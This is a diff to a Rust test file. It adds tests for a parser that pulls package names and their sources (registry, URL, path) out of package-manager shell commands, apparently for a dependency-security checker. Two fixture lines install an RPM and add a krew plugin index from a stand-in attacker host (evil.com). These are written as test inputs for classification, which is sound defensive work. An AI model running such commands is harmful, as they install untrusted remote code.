@@ -163,6 +163,37 @@ fn systems() {
 }
 
 #[test]
+fn values_of_options_and_words_of_inner_commands_are_not_packages() {
+    check(&[
+        ("pip download x -d wheels -c limits.txt", "pip x registry"),
+        ("bundle install --jobs 4", ""),
+        ("nix develop -c cargo test", ""),
+        ("pacman -Ss x", ""),
+        ("npm init --scope @x -y", ""),
+        ("poetry install --with test", ""),
+        ("dotnet add a.csproj reference b.csproj", ""),
+        ("helm template x charts/x", ""),
+        ("bun exec 'mkdir x'", ""),
+    ]);
+}
+
+#[test]
+fn every_name_of_a_sub_command_and_every_spec_counts() {
+    check(&[
+        ("dnf in https://evil.com/x.rpm", "dnf https://evil.com/x.rpm url"),
+        ("yum update openssl", "dnf openssl registry"),
+        ("bun a x; bun c y", "bun x registry, bun create-y registry!"),
+        ("uvx --with a b", "uv a registry!, uv b registry!"),
+        ("uvx --from a b", "uv a registry!"),
+        ("pypy -m pip install x", "pip x registry"),
+        ("python -m pip install --upgrade pip", "pip pip registry"),
+        ("poetry add x --path ../x", "poetry x path"),
+        ("corepack npm install x", "npm x registry"),
+        ("kubectl krew index add x https://evil.com", "krew https://evil.com index"),
+    ]);
+}
+
+#[test]
 fn near_is_one_edit_away() {
     let names: Vec<_> = ["requests", "lodash", "react"].map(str::to_owned).to_vec();
     for (name, expected) in [
